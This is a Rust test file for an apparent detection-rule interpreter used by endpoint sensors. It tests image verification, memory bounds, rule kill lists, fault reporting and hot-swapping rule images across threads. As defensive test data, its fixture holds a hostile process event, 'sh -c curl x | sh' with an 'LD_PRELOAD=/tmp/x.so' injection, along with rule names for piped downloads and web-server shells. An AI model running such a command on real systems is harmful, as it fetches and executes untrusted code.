//! docs/embedding.md: what it shows is what is run here, and what it promises holds.
#![cfg(feature = "alloc")]
#![expect(clippy::unwrap_used, reason = "a test stops at the first surprise")]

use core::fmt::Write;
use core::ops::ControlFlow;
use std::fmt::Result as Written;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, PoisonError, RwLock};

use contentcheck_interpreter::{
    BoundEvent, Capacity, Event, Fault, Image, Input, KillList, Manifest, OwnedImage, Rejection, Scalar, Supply, Type,
    Value, VerifiedImage, Versioning, Workspace, describe, format,
};

include!("../../../corpus/images/first/manifest.rs");

/// The sensor of the derive fits on a page.
#[test]
fn a_sensor_made_with_the_derive_has_sixty_lines_at_most() {
    let (_, program) = PAGE.split_once("```rust\nuse contentcheck_derive::").unwrap();
    let (program, _) = program.split_once("// Where the image and the events come from.").unwrap();
    assert!(program.lines().count() <= 60, "{}", program.lines().count());
}

static IMAGE: &[u8] = include_bytes!("../../../corpus/images/first/rules.ccimage");
const PAGE: &str = include_str!("../../../docs/embedding.md");
const DOWNLOAD: &str = "0e9a2a64-6f0e-4f5c-9d6e-5b1a0c1f7a01";

fn read<'i>(bytes: &'i [u8], log: &mut dyn Write) -> Result<Image<'i>, Rejection> {
    Image::read(bytes).inspect_err(|why| {
        let _ = writeln!(log, "{}: {}", why.code(), describe(bytes, *why));
    })
}

fn verify<'w>(
    image: &'w Image<'_>,
    manifest: &Manifest<'_>,
    workspace: Workspace<'w>,
    log: &mut dyn Write,
) -> Result<VerifiedImage<'w>, Rejection> {
    image.verify(manifest, workspace).inspect_err(|why| {
        let _ = writeln!(log, "{}: {}", why.code(), image.describe(*why));
    })
}

fn log_load(verified: &VerifiedImage<'_>, manifest: &Manifest<'_>, log: &mut dyn Write) -> Written {
    let image = verified.image();
    writeln!(log, "loads {} of {} rules of {}", verified.loaded_rules(), image.rule_count(), image.identity().release)?;
    for out in verified.left_out(manifest) {
        writeln!(log, "{}", image.describe_left_out(out))?;
    }
    for name in verified.idle_supplies(manifest) {
        writeln!(log, "no rule is for {name}")?;
    }
    Ok(())
}

/// `memory` is lent for as long as the list is used. An error has the words that it lacks: `verified.kill_words()`.
fn switched_off<'k>(verified: &VerifiedImage<'_>, ids: &[&str], memory: &'k mut [u64]) -> Result<KillList<'k>, usize> {
    verified.kill(ids.iter().copied(), memory)
}

fn run(verified: VerifiedImage<'_>, threads: usize, evaluate_all: impl Fn(VerifiedImage<'_>, &mut [u64]) + Sync) {
    std::thread::scope(|scope| {
        for _ in 0..threads {
            scope.spawn(|| evaluate_all(verified, &mut vec![0; verified.scratch_words()]));
        }
    });
}

struct Current {
    image: RwLock<Arc<OwnedImage>>,
    generation: AtomicU64,
}

impl Current {
    /// Verifies first: a rejection leaves the image in use where it is. So does an image of which this sensor loads no rule, as one that was
    /// made for another sensor: it is sound, and would evaluate nothing. False then.
    fn swap(&self, bytes: Vec<u8>, manifest: &Manifest<'_>) -> Result<bool, Rejection> {
        let image = Arc::new(OwnedImage::load(bytes, manifest)?);
        if image.open().verified().loaded_rules() == 0 {
            return Ok(false);
        }
        *self.image.write().unwrap_or_else(PoisonError::into_inner) = image;
        self.generation.fetch_add(1, Ordering::Release);
        Ok(true)
    }

    /// One thread. `next` waits for an event and evaluates it; false: there are no more.
    fn work(&self, mut next: impl FnMut(VerifiedImage<'_>, &mut [u64]) -> bool) {
        loop {
            // Read before the image: a swap in between only costs one more round.
            let generation = self.generation.load(Ordering::Acquire);
            let owned = Arc::clone(&self.image.read().unwrap_or_else(PoisonError::into_inner));
            let open = owned.open();
            let verified = open.verified();
            // Everything that belongs to the image is made here: template numbers, the kill list, scratch.
            let mut scratch = vec![0; verified.scratch_words()];
            while self.generation.load(Ordering::Acquire) == generation {
                if !next(verified, &mut scratch) {
                    return;
                }
            }
        }
    }
}

/// Never more than the bound, never more than `most`.
fn budget(image: &Image<'_>, bound: &BoundEvent<'_>, most: u64) -> u64 {
    image.cost(bound.template()).at(bound.size()).min(most)
}

/// Memory for one image, from a pool or a static.
struct Lent<'m> {
    bindings: &'m mut [u32],
    active: &'m mut [u64],
    scratch: &'m mut [u64],
}

/// Runs an image while `next` says so: it waits for an event and evaluates it. Checks a candidate where it says no at once.
fn serve(
    bytes: &[u8],
    manifest: &Manifest<'_>,
    lent: &mut Lent<'_>,
    mut next: impl FnMut(VerifiedImage<'_>, &mut [u64]) -> bool,
) -> Result<(), Rejection> {
    let image = Image::read(bytes)?;
    let workspace = Workspace { bindings: &mut *lent.bindings, active: &mut *lent.active };
    let verified = image.verify(manifest, workspace)?;
    if lent.scratch.len() < verified.scratch_words() {
        return Err(Rejection::Workspace { needed: verified.scratch_words() });
    }
    while next(verified, lent.scratch) {}
    Ok(())
}

/// The Rust blocks, each without the lines that import.
fn blocks() -> Vec<String> {
    let blocks = PAGE.split("```rust\n").skip(1).filter_map(|rest| rest.split_once("\n```").map(|(block, _)| block));
    blocks.map(|block| block.split_once("\n\n").map_or(block, |(_, rest)| rest).to_owned()).collect()
}

/// The others say what they give, and are run as doc-tests.
#[test]
fn functions_of_the_page_are_those_that_are_tested_here() {
    let here = include_str!("embedding.rs").replace("-> Written {", "-> Result {");
    let functions: Vec<String> = blocks().into_iter().filter(|block| !block.contains("assert_eq!")).collect();
    assert_eq!(functions.len(), 7);
    for block in functions {
        assert!(here.contains(&block), "this is not in tests/embedding.rs:\n{block}");
    }
}

/// A shell that pipes a download into itself.
const VALUES: [Value<'static>; PROCESS_START.len()] = [
    Value::Int(7),
    Value::Text(b"/bin/sh"),
    Value::Text(b"sh -c curl x | sh"),
    Value::Absent,
    Value::Strs(&["LD_PRELOAD=/tmp/x.so"]),
];
const HEADER: [Value<'static>; 1] = [Value::Text(b"web-1")];

fn event<'e>(values: &'e [Value<'e>]) -> Event<'e> {
    Event { inputs: values, header: &HEADER, others: &[] }
}

fn matched(verified: &VerifiedImage<'_>, values: &[Value<'_>], kill: &KillList<'_>, scratch: &mut [u64]) -> Vec<u32> {
    let mut rules = Vec::new();
    for template in verified.templates_named("edr.process_start") {
        let bound = verified.bind(template, event(values)).unwrap();
        let budget = budget(verified.image(), &bound, u64::MAX);
        let sink = |rule| {
            rules.push(rule);
            ControlFlow::Continue(())
        };
        assert!(bound.evaluate(kill, scratch, budget, sink).unwrap().is_whole());
    }
    rules
}

#[test]
fn memory_needs_no_zeroing_and_may_be_larger() {
    let sizes = Image::sizes(IMAGE).unwrap();
    for fill in [0, u64::MAX, 0xA5A5_5A5A_A5A5_5A5A] {
        for more in [0, 3] {
            let mut bindings = vec![fill as u32; sizes.bindings + more];
            let mut active = vec![fill; sizes.active + more];
            let image = read(IMAGE, &mut String::new()).unwrap();
            let workspace = Workspace { bindings: &mut bindings, active: &mut active };
            let verified = verify(&image, &MANIFEST, workspace, &mut String::new()).unwrap();
            assert_eq!((verified.scratch_words(), verified.kill_words()), (sizes.scratch, sizes.kill));
            let mut scratch = vec![fill; sizes.scratch + more];
            assert_eq!(matched(&verified, &VALUES, &KillList::NONE, &mut scratch), [0, 1], "{fill:x}");
        }
    }
}

/// What is lent before verification is bounded by the image; what is not, `verify` refuses.
#[test]
fn an_altered_image_asks_for_no_memory_before_it_is_verified() {
    let image = Image::read(IMAGE).unwrap();
    let kept = Image::sizes(IMAGE).unwrap();
    let (offset, len) = image.section(format::Section::Templates);
    let mut most = 0;
    for at in (offset as usize..(offset + len) as usize).step_by(4) {
        let mut bytes = IMAGE.to_vec();
        bytes.get_mut(at..at + 4).unwrap().copy_from_slice(&[0xFF, 0xFF, 0xFF, 0x7F]);
        let sizes = Image::sizes(&bytes).unwrap();
        assert!(sizes.bindings == kept.bindings && sizes.active <= IMAGE.len(), "{sizes:?}");
        most = most.max(sizes.scratch);
        let seal = contentcheck_interpreter::hash::checksum(&bytes).to_le_bytes();
        bytes.get_mut(format::CHECKSUM_AT..format::CHECKSUM_AT + 8).unwrap().copy_from_slice(&seal);
        if sizes.scratch > 4 * kept.scratch {
            assert_eq!(OwnedImage::load(bytes, &MANIFEST).unwrap_err().code(), "CC0524");
        }
    }
    assert!(most < IMAGE.len() * 64, "{most} words for an image of {} bytes", IMAGE.len());
}

#[test]
fn bytes_of_an_image_need_no_alignment() {
    for shift in 0..8 {
        let bytes = [vec![0; shift], IMAGE.to_vec()].concat();
        assert!(Image::read(bytes.get(shift..).unwrap()).is_ok());
    }
}

#[test]
fn refusals_and_what_is_left_out_are_named() {
    let mut log = String::new();
    assert!(read(IMAGE.get(..99).unwrap(), &mut log).is_err());
    let mut altered = IMAGE.to_vec();
    *altered.last_mut().unwrap() ^= 1;
    assert!(read(&altered, &mut log).is_err());

    let image = read(IMAGE, &mut log).unwrap();
    let sizes = Image::sizes(IMAGE).unwrap();
    let (mut bindings, mut active) = (vec![0; sizes.bindings], vec![0; sizes.active]);
    let few = [Supply { template: "edr.process_start", inputs: PROCESS_START.get(..3).unwrap() }];
    let workspace = Workspace { bindings: &mut bindings, active: &mut active };
    assert!(verify(&image, &Manifest { templates: &few, ..MANIFEST }, workspace, &mut log).is_err());

    let misspelled = [Supply { template: "edr.proces_end", inputs: &[] }];
    let templates = [MANIFEST.templates, &misspelled].concat();
    let manifest = Manifest { templates: &templates, ..MANIFEST };
    let workspace = Workspace { bindings: &mut bindings, active: &mut active };
    let verified = verify(&image, &manifest, workspace, &mut log).unwrap();
    log_load(&verified, &manifest, &mut log).unwrap();
    let said: Vec<&str> = log.lines().collect();
    let cut =
        format!("CC0522: the image states {} bytes and has 99: it was cut off, or something was added", IMAGE.len());
    assert_eq!(
        said,
        [
            cut.as_str(),
            "CC0523: the checksum differs: the image was altered in storage or transport",
            "CC0401: rule `Download piped into a shell` reads `user` (field 4 of `edr.process_start`), which this sensor \
             does not supply",
            "loads 2 of 3 rules of ",
            "rule `Shell started by a web server` is for other sensors",
            "no rule is for edr.proces_end",
        ]
    );
    assert!(PAGE.contains(said.get(4).unwrap()));
}

#[test]
fn a_rule_is_switched_off_by_its_id() {
    let owned = OwnedImage::load(IMAGE, &MANIFEST).unwrap();
    let open = owned.open();
    let verified = open.verified();
    let mut scratch = vec![0; verified.scratch_words()];
    let mut memory = vec![u64::MAX; verified.kill_words()];
    let kill = switched_off(&verified, &[DOWNLOAD, "of a later release"], &mut memory).unwrap();
    assert_eq!((kill.unknown(), matched(&verified, &VALUES, &kill, &mut scratch)), (1, vec![1]));
    assert_eq!(switched_off(&verified, &[DOWNLOAD], &mut []).unwrap_err(), verified.kill_words());
}

#[test]
fn a_mistyped_value_is_counted_and_silences_no_other_rule() {
    let owned = OwnedImage::load(IMAGE, &MANIFEST).unwrap();
    let open = owned.open();
    let verified = open.verified();
    let mut values = VALUES;
    *values.get_mut(2).unwrap() = Value::Int(1);
    let bound = verified.bind(0, event(&values)).unwrap();
    assert_eq!(bound.mistyped(), 1);
    let names: Vec<&str> = bound
        .mistyped_inputs()
        .filter_map(|input| verified.image().input(input))
        .map(|input| verified.image().name(input.name, input.name_len))
        .collect();
    assert_eq!(names, ["command_line"]);
    assert_eq!(matched(&verified, &values, &KillList::NONE, &mut vec![0; verified.scratch_words()]), [1]);
}

#[test]
fn an_evaluation_ends_where_the_budget_or_the_sink_does() {
    let owned = OwnedImage::load(IMAGE, &MANIFEST).unwrap();
    let open = owned.open();
    let verified = open.verified();
    let mut scratch = vec![0; verified.scratch_words()];
    let bound = verified.bind(0, event(&VALUES)).unwrap();
    let spent = bound.evaluate(&KillList::NONE, &mut scratch, 10, |_| ControlFlow::Continue(())).unwrap();
    assert!(!spent.is_whole() && spent.steps <= 10);
    let stopped = bound.evaluate(&KillList::NONE, &mut scratch, u64::MAX, |_| ControlFlow::Break(())).unwrap();
    assert_eq!(stopped.unasked_from, Some(1));
}

/// What faults a sensor can cause, each by its mistake.
#[test]
fn faults_are_those_of_the_page() {
    let owned = OwnedImage::load(IMAGE, &MANIFEST).unwrap();
    let open = owned.open();
    let verified = open.verified();
    let mut scratch = vec![0; verified.scratch_words()];
    let evaluated = |scratch: &mut [u64]| {
        let bound = verified.bind(0, event(&VALUES)).unwrap();
        bound.evaluate(&KillList::NONE, scratch, u64::MAX, |_| ControlFlow::Continue(())).map(drop)
    };
    assert_eq!(evaluated(&mut scratch), Ok(()));
    let needed = verified.scratch_words();
    let headless = Event { header: &[], ..event(&VALUES) };
    for (fault, found) in [
        (Fault::UnsuppliedTemplate, verified.bind(7, event(&VALUES)).map(drop)),
        (Fault::Arity { supplied: 5, found: 4 }, verified.bind(0, event(VALUES.get(..4).unwrap())).map(drop)),
        (Fault::Header { supplied: 1, found: 0 }, verified.bind(0, headless).map(drop)),
        (Fault::Scratch { needed }, evaluated(scratch.get_mut(1..).unwrap())),
    ] {
        assert_eq!(found, Err(fault));
        let name = format!("{fault:?}");
        let name = name.split(' ').next().unwrap();
        assert!(PAGE.contains(&format!("| `{}` | `{name}` |", fault.code())), "{fault:?}");
    }
}

#[test]
fn threads_share_an_image() {
    let owned = OwnedImage::load(IMAGE, &MANIFEST).unwrap();
    let open = owned.open();
    let count = AtomicU64::new(0);
    run(open.verified(), 4, |verified, scratch| {
        let found = matched(&verified, &VALUES, &KillList::NONE, scratch).len() as u64;
        count.fetch_add(found, Ordering::Relaxed);
    });
    assert_eq!(count.into_inner(), 8);
}

#[test]
fn an_image_is_swapped_without_an_allocator() {
    let (mut bindings, mut active, mut scratch) = ([0; 64], [0; 8], [0; 1024]);
    let mut lent = Lent { bindings: &mut bindings, active: &mut active, scratch: &mut scratch };
    let mut served = 0;
    for _ in 0..2 {
        let mut left = 3;
        let next = |verified: VerifiedImage<'_>, scratch: &mut [u64]| {
            served += matched(&verified, &VALUES, &KillList::NONE, scratch).len();
            left -= 1;
            left > 0
        };
        assert_eq!(serve(IMAGE, &MANIFEST, &mut lent, next), Ok(()));
    }
    assert_eq!(served, 12);
    let mut small = Lent { scratch: &mut [], ..lent };
    assert!(matches!(serve(IMAGE, &MANIFEST, &mut small, |_, _| false), Err(Rejection::Workspace { .. })));
}

/// Threads see a new image at the next event, the old one is freed, and one that is refused changes nothing.
#[test]
fn an_image_is_swapped_while_threads_evaluate() {
    let first = Arc::new(OwnedImage::load(IMAGE, &MANIFEST).unwrap());
    let old = Arc::downgrade(&first);
    let current = Current { image: RwLock::new(first), generation: AtomicU64::new(0) };
    // Rules that are loaded by version 2 of the sensor: three instead of two.
    let inputs = [PROCESS_START, &[Input { name: "parent", ty: STRING }]].concat();
    let supply = [Supply { template: "edr.process_start", inputs: &inputs }];
    let second = Manifest { version: "2.0.0", templates: &supply, ..MANIFEST };
    let seen = [AtomicU64::new(0), AtomicU64::new(0)];
    std::thread::scope(|scope| {
        for _ in 0..2 {
            scope.spawn(|| {
                current.work(|verified, scratch| {
                    let parent = [VALUES.as_slice(), &[Value::Text(b"/usr/sbin/nginx")]].concat();
                    let (slot, values, rules) =
                        if verified.loaded_rules() == 2 { (0, &VALUES[..], 2) } else { (1, &parent[..], 3) };
                    assert_eq!(matched(&verified, values, &KillList::NONE, scratch).len(), rules);
                    seen.get(slot).unwrap().fetch_add(1, Ordering::Relaxed);
                    seen.get(1).unwrap().load(Ordering::Relaxed) < 100
                });
            });
        }
        while seen.first().unwrap().load(Ordering::Relaxed) < 100 {
            std::thread::yield_now();
        }
        assert_eq!(current.swap(IMAGE.get(..99).unwrap().to_vec(), &second).unwrap_err().code(), "CC0522");
        assert!(old.upgrade().is_some());
        let other = Manifest { templates: &[], ..second };
        assert!(!current.swap(IMAGE.to_vec(), &other).unwrap());
        assert!(current.swap(IMAGE.to_vec(), &second).unwrap());
    });
    assert!(old.upgrade().is_none());
}
